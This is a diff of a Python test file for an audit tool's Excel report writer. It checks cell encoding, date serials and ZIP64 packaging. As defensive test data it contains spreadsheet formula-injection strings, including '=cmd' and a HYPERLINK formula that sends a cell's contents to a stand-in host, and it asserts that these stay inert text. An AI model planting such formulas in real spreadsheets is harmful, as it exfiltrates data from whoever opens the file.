@@ -1,22 +1,15 @@
-"""report.xlsx's streamed table sheets: the same workbook as the openpyxl-cell writer, faster.
+"""report.xlsx's streamed cells and zip package: fast paths equal the exact path, odd values.
 
-The oracle is the writer report.xlsx had before its table rows were streamed (openpyxl cells, kept
-here in a few lines): both write the same results (the factory's hostile tenant with a diff, the
-hostile export corpus, a frame of odd values, tables split over several sheets) and every cell is
-compared after loading (value, type, number format, font, fill, quotePrefix), in normal and
-read-only mode, with the sheets' settings. The fast paths are checked against the exact path on
-generated values, the date serials against openpyxl's ``to_excel``, and the zip writer's ZIP64
-choice and its failure handling (no file, no thread left) directly. LibreOffice opening the file
-is checked when ``soffice`` is installed (not in CI).
+Whole workbooks of awkward values (the hostile export corpus, a frame of odd values of every
+kind) are read back and compared cell by cell with :mod:`tests._excel_expected`. The fast
+paths are checked against the exact path on generated values, the date serials against
+openpyxl's ``to_excel`` (an independent implementation), and the zip writer's ZIP64 choice and
+its failure handling (no file, no thread left) directly.
 """
 
 from __future__ import annotations
 
-import csv
-import io
-import shutil
 import struct
-import subprocess
 import threading
 import zipfile
 from collections.abc import Iterator
@@ -27,138 +20,27 @@ from typing import Any
 
 import numpy as np
 import openpyxl
-import orjson
 import pandas as pd
 import pytest
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
-from openpyxl import Workbook
 from openpyxl.utils.datetime import to_excel
 
-from audit._values import column, joined, naive_utc, py_values
-from audit.analysis.diff import diff_results
+from audit._values import joined, naive_utc, py_values
 from audit.analysis.result import AuditResult
-from audit.render import excel, write_xlsx
-from audit.render._common import guest_view
-from audit.render.xlsx_package import write_package
-from audit.render.xlsx_sheet import _ENCODERS, CellStyles, _exact_cell, _plain, _serials, rows_xml
+from audit.render import write_xlsx
+from audit.render.xlsx_cells import ENCODERS, exact_cell, excel_serial, plain_value
+from audit.render.xlsx_package import Streamed, write_package
+from audit.render.xlsx_sheet import Column, column_letter, rows_xml, text_lines
+from audit.render.xlsx_styles import CellStyles, cell_styles
 from tests.factories import make_result
+from tests.test_render_excel import assert_every_cell
 
-# ---- the oracle: report.xlsx's table sheets as openpyxl cells (the writer before streaming) ----
-
-
-def _reference_xlsx(result: AuditResult, path: Path, max_rows: int = excel.EXCEL_MAX_ROWS) -> Path:
-    workbook = Workbook(write_only=True)
-    styles = excel._add_styles(workbook)
-    excel._write_summary(excel._Out(workbook.create_sheet("Summary"), styles), result)
-    sources = pd.DataFrame(
-        [s.to_dict() for s in result.sources], columns=[c.key for c in excel._SOURCES]
-    )
-    tables = [
-        ("Findings", result.findings, excel._FINDINGS),
-        ("Guests", guest_view(result), excel._GUESTS),
-        ("Domains", result.domains, excel._DOMAINS),
-        ("Rules", result.rules, excel._RULES),
-        ("Sources", sources, excel._SOURCES),
-    ]
-    if result.diff is not None:
-        tables.insert(0, ("Changes", result.diff.changes(), excel._CHANGES))
-    for title, frame, cols in tables:
-        frame = frame.reset_index(drop=True)
-        for number, start in enumerate(range(0, max(len(frame), 1), max_rows - 1), 1):
-            chunk = frame.iloc[start : start + max_rows - 1]
-            out = excel._Out(
-                workbook.create_sheet(title if number == 1 else f"{title} ({number})"), styles
-            )
-            excel._setup_table_sheet(out.sheet, cols, len(chunk))
-            out.sheet.append([excel._styled(out, c.header or c.key, excel._HEADER) for c in cols])
-            values = [_reference_cells(out, column(chunk, c.key), c.kind) for c in cols]
-            for row in zip(*values, strict=True):
-                out.sheet.append(row)
-    workbook.save(path)
-    return path
+# ---- results of awkward values ------------------------------------------------------------------
 
 
-def _reference_cells(out: Any, series: pd.Series, kind: str) -> list[Any]:
-    def json_cell(value: Any) -> Any:
-        if isinstance(value, dict | list) and not value:
-            return None
-        return excel._text(out, orjson.dumps(value, default=str).decode())
-
-    convert = {
-        "text": lambda v: excel._text(out, v),
-        "list": lambda v: excel._text(out, v),
-        "styled": lambda v: excel._styled(out, v),
-        "json": json_cell,
-        "int": int,
-        "bool": bool,
-        "datetime": naive_utc,
-    }[kind]
-    return [None if v is None else convert(v) for v in py_values(series)]
-
-
-# ---- comparing two workbooks ---------------------------------------------------------------------
-
-
-def _described(path: Path, read_only: bool) -> dict[str, Any]:
-    """Every non-empty cell (value, type, format, font, fill, quotePrefix) and sheet settings."""
-    book = openpyxl.load_workbook(path, read_only=read_only)
-    sheets: dict[str, Any] = {}
-    for sheet in book.worksheets:
-        cells = []
-        for row in sheet.iter_rows():
-            for cell in row:
-                if cell.value is None:
-                    continue
-                style = cell.style_array if read_only else cell
-                cells.append(
-                    (
-                        cell.row,
-                        cell.column,
-                        cell.value,
-                        type(cell.value),
-                        cell.data_type,
-                        cell.number_format,
-                        cell.font.b,
-                        cell.font.sz,
-                        cell.font.color.rgb if cell.font.color is not None else None,
-                        cell.fill.fill_type,
-                        cell.fill.fgColor.rgb,
-                        bool(style.quotePrefix),
-                        cell.alignment.vertical,
-                    )
-                )
-        sheets[sheet.title] = cells
-        if not read_only:
-            sheets[sheet.title + " settings"] = (
-                sheet.freeze_panes,
-                sheet.auto_filter.ref,
-                sheet.print_title_rows,
-                {k: d.width for k, d in sheet.column_dimensions.items()},
-                len(sheet._charts),
-                sheet.max_row,
-                sheet.max_column,
-            )
-    book.close()
-    return {"names": book.sheetnames, "sheets": sheets}
-
-
-def _assert_same_workbook(
-    result: AuditResult, folder: Path, max_rows: int = excel.EXCEL_MAX_ROWS
-) -> None:
-    new = write_xlsx(result, folder / "new.xlsx", max_rows=max_rows)
-    old = _reference_xlsx(result, folder / "old.xlsx", max_rows=max_rows)
-    for read_only in (False, True):
-        got, want = _described(new, read_only), _described(old, read_only)
-        assert got["names"] == want["names"]
-        for name, cells in want["sheets"].items():
-            assert got["sheets"][name] == cells, name
-
-
-# ---- results to compare on ----------------------------------------------------------------------
-
-
-def _hostile_corpus() -> AuditResult:
+def hostile_corpus() -> AuditResult:
+    """The hostile export folder (tests/data/hostile), collected offline and analysed."""
     import audit
     from audit.collectors.pipeline import CollectOptions
     from audit.config import AuditConfig
@@ -210,7 +92,7 @@ ODD_LISTS: list[Any] = [
 ]
 
 
-def _odd_result() -> AuditResult:
+def odd_result() -> AuditResult:
     """A result whose frames hold every awkward value a column of each kind can meet."""
     result = make_result(40, seed=5)
     guests = result.guests.copy()
@@ -221,68 +103,45 @@ def _odd_result() -> AuditResult:
     guests["other_mails"] = pd.Series((ODD_LISTS * 4)[:n], dtype=object)
     created = guests["created"].copy()
     for i, stamp in enumerate(
-        ["1899-12-31", "1900-02-28 23:59:59.999999", "1900-03-01", "1970-01-01"]
+        ["1900-01-01", "1900-02-28 23:59:59.999999", "1900-03-01", "1970-01-01"]
     ):
         created.iloc[i] = pd.Timestamp(stamp, tz="UTC")
     created.iloc[5] = pd.NaT
     guests["created"] = created
     guests["account_enabled"] = pd.array([None, True, False, *[True] * (n - 3)], dtype="boolean")
-    outcomes = result.outcomes.copy()
-    oddities = ["weird=1", "", "header", "=cmd", None, "ready "]
-    outcomes["outcome"] = pd.Series(
-        oddities + outcomes["outcome"].tolist()[len(oddities) :], dtype=object
-    )
     domains = result.domains.copy()
-    domains.loc[0, "guests"] = 2**60
+    domains.loc[0, "guests"] = 2**52
     sources = [
         replace(result.sources[0], detail={}),
         replace(result.sources[1], detail={"a": "=1", "b": [1, None]}),
         *result.sources[2:],
     ]
-    return replace(result, guests=guests, outcomes=outcomes, domains=domains, sources=sources)
+    return replace(result, guests=guests, domains=domains, sources=sources)
 
 
-def test_same_cells_as_the_cell_writer_with_a_diff(tmp_path: Path) -> None:
-    new = make_result(60, seed=3)
-    result = replace(new, diff=diff_results(make_result(60, seed=2), new))
-    assert result.diff is not None
-    assert len(result.diff.changes())
-    _assert_same_workbook(result, tmp_path)
+def test_every_cell_of_the_hostile_corpus(tmp_path: Path) -> None:
+    result = hostile_corpus()
+    assert_every_cell(result, write_xlsx(result, tmp_path / "report.xlsx"))
 
 
-def test_same_cells_as_the_cell_writer_hostile_corpus(tmp_path: Path) -> None:
-    _assert_same_workbook(_hostile_corpus(), tmp_path)
-
-
-def test_same_cells_as_the_cell_writer_odd_values(tmp_path: Path) -> None:
-    _assert_same_workbook(_odd_result(), tmp_path)
-
-
-def test_same_cells_as_the_cell_writer_split_sheets(tmp_path: Path) -> None:
-    _assert_same_workbook(make_result(60, seed=4), tmp_path, max_rows=17)
-
-
-def test_odd_values_stay_inert_and_exact(tmp_path: Path) -> None:
-    """Not only the same as before: right (CR kept, surrogates replaced, formulas quoted)."""
-    book = openpyxl.load_workbook(write_xlsx(_odd_result(), tmp_path / "odd.xlsx"))
+def test_every_cell_of_odd_values(tmp_path: Path) -> None:
+    result = odd_result()
+    path = write_xlsx(result, tmp_path / "odd.xlsx")
+    assert_every_cell(result, path)
+    book = openpyxl.load_workbook(path)
     sheet = book["Guests"]
     header = [c.value for c in sheet[1]]
-    names = {
-        c.value: c
-        for c in sheet[openpyxl.utils.get_column_letter(header.index("display_name") + 1)]
-    }
+    letter = openpyxl.utils.get_column_letter(header.index("display_name") + 1)
+    names = {c.value: c for c in sheet[letter]}
     assert "cr\rlf\r\nend" in names
     assert "lone \ufffd surrogate" in names
     assert "a\ufffdb\ufffd" in names
-    assert "trailing " in names
-    assert " leading" in names
     for risky in ("\u00a0=1+1", "\u200b+1", "\uff1d1", "#N/A", "#DIV/0!", "-", "="):
         assert names[risky].quotePrefix, risky
         assert names[risky].data_type == "s", risky
     assert not names["#EXT# plain"].quotePrefix
-    assert names["12"].data_type == "s"  # text, as before
-    assert names["True"].data_type == "s"
-    with zipfile.ZipFile(tmp_path / "odd.xlsx") as archive:
+    assert names["12"].data_type == "s"  # text in a text column, whatever it looks like
+    with zipfile.ZipFile(path) as archive:
         xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/sheet" in n)
     assert b"<f>" not in xml
     assert b"<f " not in xml
@@ -308,26 +167,27 @@ _LIST = st.one_of(
 )
 
 
-def _exact(series: pd.Series, kind: str) -> list[str]:
+def _exact(series: pd.Series, kind: str, styles: CellStyles = _STYLES) -> list[str]:
     nums = [str(n) for n in range(2, len(series) + 2)]
     values = (
         py_values(series)
         if series.dtype != object
-        else [_plain(v) for v in series.astype(object).where(series.notna(), None).tolist()]
+        else [plain_value(v) for v in series.astype(object).where(series.notna(), None).tolist()]
     )
-    return [_exact_cell('<c r="C', n, kind, v, _STYLES) for n, v in zip(nums, values, strict=True)]
+    return [exact_cell('<c r="C', n, kind, v, styles) for n, v in zip(nums, values, strict=True)]
 
 
-def _fast(series: pd.Series, kind: str) -> list[str]:
+def _fast(series: pd.Series, kind: str, styles: CellStyles = _STYLES) -> list[str]:
     nums = [str(n) for n in range(2, len(series) + 2)]
-    return _ENCODERS[kind](series, '<c r="C', nums, _STYLES)
+    return ENCODERS[kind](series, '<c r="C', nums, styles)
 
 
 @settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-@given(st.lists(_VALUE, max_size=20), st.sampled_from(["text", "styled"]))
-def test_text_fast_path_is_the_exact_path(values: list[Any], kind: str) -> None:
+@given(st.lists(_VALUE, max_size=20), st.sampled_from(["text", "styled"]), st.booleans())
+def test_text_fast_path_is_the_exact_path(values: list[Any], kind: str, wrap: bool) -> None:
     series = pd.Series(values, dtype=object)
-    assert _fast(series, kind) == _exact(series, kind)
+    styles = _STYLES.wrapped() if wrap else _STYLES
+    assert _fast(series, kind, styles) == _exact(series, kind, styles)
 
 
 @settings(max_examples=200, deadline=None)
@@ -350,23 +210,27 @@ def test_string_dtype_fast_path_is_the_exact_path(values: list[str]) -> None:
         assert _fast(series, kind) == _exact(series, kind), kind
 
 
-def test_exact_path_matches_the_cell_writer_rules() -> None:
-    """The exact path's decisions, spelled out (the oracle tests prove them on whole files)."""
-    cell = _exact_cell('<c r="A', "2", "text", '=HYPERLINK("x")', _STYLES)
+def test_exact_path_decisions() -> None:
+    cell = exact_cell('<c r="A', "2", "text", '=HYPERLINK("x")', _STYLES)
     assert cell == '<c r="A2" s="11" t="inlineStr"><is><t>=HYPERLINK("x")</t></is></c>'
-    assert _exact_cell('<c r="A', "2", "text", "", _STYLES) == ""
-    assert _exact_cell('<c r="A', "2", "list", ["a", "b"], _STYLES).endswith("<t>a; b</t></is></c>")
-    assert ' xml:space="preserve">x </t>' in _exact_cell('<c r="A', "2", "text", "x ", _STYLES)
-    assert "<t>a&#13;&amp;&lt;&gt;</t>" in _exact_cell('<c r="A', "2", "text", "a\r&<>", _STYLES)
-    assert _exact_cell('<c r="A', "2", "int", 2**60, _STYLES).endswith(
+    assert exact_cell('<c r="A', "2", "text", "", _STYLES) == ""
+    assert exact_cell('<c r="A', "2", "list", ["a", "b"], _STYLES).endswith("<t>a; b</t></is></c>")
+    assert ' xml:space="preserve">x </t>' in exact_cell('<c r="A', "2", "text", "x ", _STYLES)
+    assert "<t>a&#13;&amp;&lt;&gt;</t>" in exact_cell('<c r="A', "2", "text", "a\r&<>", _STYLES)
+    assert exact_cell('<c r="A', "2", "int", 2**60, _STYLES).endswith(
         "<v>1.152921504606847e+18</v></c>"
     )
-    assert _exact_cell('<c r="A', "2", "bool", np.True_, _STYLES) == '<c r="A2" t="b"><v>1</v></c>'
-    assert _exact_cell('<c r="A', "2", "styled", "high", _STYLES).startswith('<c r="A2" s="7" t=')
+    assert exact_cell('<c r="A', "2", "bool", np.True_, _STYLES) == '<c r="A2" t="b"><v>1</v></c>'
+    assert exact_cell('<c r="A', "2", "styled", "high", _STYLES).startswith('<c r="A2" s="7" t=')
+    wrapped = _STYLES.wrapped()
+    assert exact_cell('<c r="A', "2", "text", "x", wrapped).startswith(
+        f'<c r="A2" s="{wrapped.text}"'
+    )
     assert joined(["a", None], "; ") == "a; "
 
 
-def test_datetime_serials_are_openpyxls() -> None:
+def test_datetime_serials_are_excels() -> None:
+    """Serials equal openpyxl's ``to_excel`` (an independent implementation), to the digit."""
     rng = np.random.default_rng(7)
     base = datetime(1899, 12, 1, tzinfo=UTC)
     stamps = [base + timedelta(microseconds=int(x)) for x in rng.integers(0, 2**62 // 1000, 3000)]
@@ -374,46 +238,48 @@ def test_datetime_serials_are_openpyxls() -> None:
         datetime(1900, 2, 28, 23, 59, 59, 999_999, tzinfo=UTC),
         datetime(1900, 3, 1, tzinfo=UTC),
     ]
+    want = [f"{to_excel(naive_utc(s)):.16g}" for s in stamps]
+    assert [excel_serial(naive_utc(s)) for s in stamps] == want  # type: ignore[arg-type]
     series = pd.Series([*stamps, None], dtype="datetime64[us, UTC]")
-    want = [f"{to_excel(naive_utc(s)):.16g}" for s in stamps] + [None]
-    assert _serials(series) == want
+    nums = [str(n) for n in range(len(series))]
+    fast = ENCODERS["datetime"](series, '<c r="A', nums, _STYLES)
+    assert [c.split("<v>")[1].split("<")[0] if c else None for c in fast] == [*want, None]
     other_zone = series.dt.tz_convert("Asia/Kolkata")
-    assert _serials(other_zone) == want
-    assert _serials(series.dt.tz_localize(None).astype("datetime64[ns]")) == want
+    assert ENCODERS["datetime"](other_zone, '<c r="A', nums, _STYLES) == fast
 
 
-def test_rows_are_numbered_and_chunked() -> None:
-    frame = pd.DataFrame({"a": ["x", None, "=1"], "n": [1, 2, None]}, dtype=object)
-    chunks = list(
-        rows_xml(
-            frame,
-            [("a", "text"), ("n", "int"), ("gone", "text")],
-            _STYLES,
-            first_row=5,
-            chunk_rows=2,
-        )
-    )
+def test_rows_are_numbered_chunked_ordered_and_tall_enough() -> None:
+    styles = cell_styles()
+    long = "word " * 30  # 150 characters
+    columns = [
+        Column(pd.Series(["x", None, "=1"], dtype=object), "text", styles),
+        Column(pd.Series([1, 2, None], dtype=object), "int", styles),
+        Column(pd.Series([None, long, "a\nb\nc"], dtype=object), "text", styles.wrapped(), 20),
+    ]
+    chunks = list(rows_xml(columns, positions=np.array([2, 0, 1]), first_row=5, chunk_rows=2))
     assert [rows for rows, _ in chunks] == [2, 1]
     xml = b"".join(x for _, x in chunks).decode()
+    wrap, quoted = styles.wrapped().text, styles.quoted
     assert xml == (
-        '<row r="5"><c r="A5" t="inlineStr"><is><t>x</t></is></c><c r="B5" t="n"><v>1</v></c></row>'
-        '<row r="6"><c r="B6" t="n"><v>2</v></c></row>'
-        '<row r="7"><c r="A7" s="11" t="inlineStr"><is><t>=1</t></is></c></row>'
+        f'<row r="5" ht="45" customHeight="1"><c r="A5" s="{quoted}" t="inlineStr"><is><t>=1</t>'
+        f'</is></c><c r="C5" s="{wrap}" t="inlineStr"><is><t>a\nb\nc</t></is></c></row>'
+        '<row r="6"><c r="A6" t="inlineStr"><is><t>x</t></is></c><c r="B6" t="n"><v>1</v></c>'
+        f'</row><row r="7" ht="{15 * text_lines(long, 20):g}" customHeight="1">'
+        f'<c r="B7" t="n"><v>2</v></c><c r="C7" s="{wrap}" t="inlineStr"><is>'
+        f'<t xml:space="preserve">{long}</t></is></c></row>'
     )
+    assert text_lines(long, 20) == 7  # 150 characters at 22 a line
     with pytest.raises(ValueError, match="unknown cell kind"):
-        list(rows_xml(frame, [("a", "formula")], _STYLES))
+        list(rows_xml([Column(columns[0].values, "formula", styles)]))
+
+
+def test_column_letters() -> None:
+    assert [column_letter(n) for n in (1, 26, 27, 52, 53, 702, 703, 16384)] == [
+        "A", "Z", "AA", "AZ", "BA", "ZZ", "AAA", "XFD",
+    ]  # fmt: skip
 
 
 # ---- the zip package ----------------------------------------------------------------------------
-
-
-def _skeleton(tmp_path: Path, titles: tuple[str, ...] = ("Big", "Small")) -> bytes:
-    workbook = Workbook(write_only=True)
-    for title in titles:
-        workbook.create_sheet(title).append(["header"])
-    path = tmp_path / "skeleton.xlsx"
-    workbook.save(path)
-    return path.read_bytes()
 
 
 def _rows(count: int, width: int, first: int = 2) -> Iterator[tuple[int, bytes]]:
@@ -444,14 +310,25 @@ def _zip64_parts(path: Path) -> set[str]:
     return found
 
 
+def _parts(big: Any, total: int = 200) -> dict[str, bytes | Streamed]:
+    return {
+        "small.txt": b"fixed part",
+        "big.xml": Streamed(b"<head>", big, b"</head>", total),
+        "other.xml": Streamed(b"<o>", lambda: _rows(5, 5), b"</o>", 5),
+    }
+
+
 def test_zip64_only_where_a_part_needs_it(tmp_path: Path) -> None:
-    target = tmp_path / "out.xlsx"
-    sheets = {"Big": (lambda: _rows(200, 50), 200), "Small": (lambda: _rows(5, 5), 5)}
-    write_package(_skeleton(tmp_path), target, sheets, zip64_above=5_000)
-    assert _zip64_parts(target) == {"xl/worksheets/sheet1.xml"}
-    book = openpyxl.load_workbook(target, read_only=True)
-    assert [r[0] for r in book["Big"].iter_rows(values_only=True)] == ["header"] + ["y" * 50] * 200
-    write_package(_skeleton(tmp_path), target, sheets)
+    target = tmp_path / "out.zip"
+    write_package(target, _parts(lambda: _rows(200, 50)), zip64_above=5_000)
+    assert _zip64_parts(target) == {"big.xml"}
+    with zipfile.ZipFile(target) as archive:
+        assert archive.namelist() == ["small.txt", "big.xml", "other.xml"]
+        body = archive.read("big.xml")
+    assert body.startswith(b'<head><row r="2">')
+    assert body.endswith(b"</row></head>")
+    assert body == b"<head>" + b"".join(x for _, x in _rows(200, 50)) + b"</head>"
+    write_package(target, _parts(lambda: _rows(200, 50)))
     assert _zip64_parts(target) == set()
 
 
@@ -460,70 +337,35 @@ def test_a_part_that_outgrows_its_estimate_is_written_again_with_zip64(tmp_path:
         yield from _rows(10, 1)  # the first chunk makes the part look small
         yield from _rows(100, 100, first=12)
 
-    target = tmp_path / "out.xlsx"
-    sheets = {"Big": (growing, 110), "Small": (lambda: _rows(5, 5), 5)}
-    write_package(_skeleton(tmp_path), target, sheets, zip64_above=5_000)
-    assert _zip64_parts(target) == {"xl/worksheets/sheet1.xml"}
-    rows = list(openpyxl.load_workbook(target, read_only=True)["Big"].iter_rows(values_only=True))
-    assert len(rows) == 111
-    assert rows[-1] == ("y" * 100,)
+    target = tmp_path / "out.zip"
+    write_package(target, _parts(growing, 110), zip64_above=5_000)
+    assert _zip64_parts(target) == {"big.xml"}
+    with zipfile.ZipFile(target) as archive:
+        assert archive.read("big.xml").count(b"<row ") == 110
 
 
-def test_a_failing_row_source_leaves_no_thread_and_no_file(tmp_path: Path) -> None:
+def test_a_failing_row_source_leaves_no_thread(tmp_path: Path) -> None:
     def failing() -> Iterator[tuple[int, bytes]]:
         yield from _rows(30, 10)
         raise RuntimeError("source broke")
 
     threads = threading.active_count()
     with pytest.raises(RuntimeError, match="source broke"):
-        write_package(_skeleton(tmp_path), tmp_path / "out.xlsx", {"Big": (failing, 40)})
+        write_package(tmp_path / "out.zip", _parts(failing, 40))
     assert threading.active_count() == threads
+
+
+def test_a_failing_writer_leaves_no_file(tmp_path: Path) -> None:
+    result = make_result(10)
+    broken = replace(result, rules=result.rules.drop(columns=["remediation"]).assign(flagged="x"))
+    with pytest.raises(ValueError, match="invalid literal for int"):
+        write_xlsx(broken, tmp_path / "report.xlsx")
+    assert list(tmp_path.iterdir()) == []
 
 
 @pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
-def test_a_write_error_on_the_compressor_thread_is_raised(tmp_path: Path) -> None:
+def test_a_write_error_on_the_compressor_thread_is_raised() -> None:
     threads = threading.active_count()
     with pytest.raises(OSError, match="No space left"):
-        write_package(
-            _skeleton(tmp_path), Path("/dev/full"), {"Big": (lambda: _rows(3000, 200), 3000)}
-        )
+        write_package(Path("/dev/full"), _parts(lambda: _rows(3000, 200), 3000))
     assert threading.active_count() == threads
-
-
-def test_unknown_sheet_is_refused(tmp_path: Path) -> None:
-    with pytest.raises(ValueError, match="no placeholder sheet"):
-        write_package(_skeleton(tmp_path), tmp_path / "out.xlsx", {"Nope": (lambda: iter(()), 0)})
-
-
-def test_owner_only_and_no_temporary_left(tmp_path: Path) -> None:
-    path = write_xlsx(make_result(10), tmp_path / "report.xlsx")
-    assert path.stat().st_mode & 0o777 == 0o600
-    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]
-
-
-# ---- LibreOffice (a local check: soffice is not installed in CI) ------------------------------
-
-
-@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")
-def test_libreoffice_reads_every_sheet(tmp_path: Path) -> None:
-    result = _hostile_corpus()
-    path = write_xlsx(result, tmp_path / "report.xlsx")
-    profile = (tmp_path / "profile").as_uri()
-    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
-    subprocess.run(
-        ["soffice", f"-env:UserInstallation={profile}", "--headless", "--convert-to", every_sheet,
-         "--outdir", str(tmp_path / "csv"), str(path)],
-        check=True, capture_output=True, timeout=180,
-    )  # fmt: skip
-    guests = list(
-        csv.reader(io.StringIO((tmp_path / "csv" / "report-Guests.csv").read_text("utf-8")))
-    )
-    assert guests[0][:3] == ["object_id", "display_name", "outcome"]
-    assert [row[0] for row in guests[1:]] == result.guests["object_id"].tolist()
-    names = {row[1] for row in guests[1:]}
-    assert '=HYPERLINK("http://pwn-04.example/?q="&A1,"PWN-04")' in names  # text, not evaluated
-    assert "\r\n=1+1 PWN-19\n# line break".replace("\r\n", "\n") in names
-    findings = list(
-        csv.reader(io.StringIO((tmp_path / "csv" / "report-Findings.csv").read_text("utf-8")))
-    )
-    assert len(findings) == len(result.findings) + 1
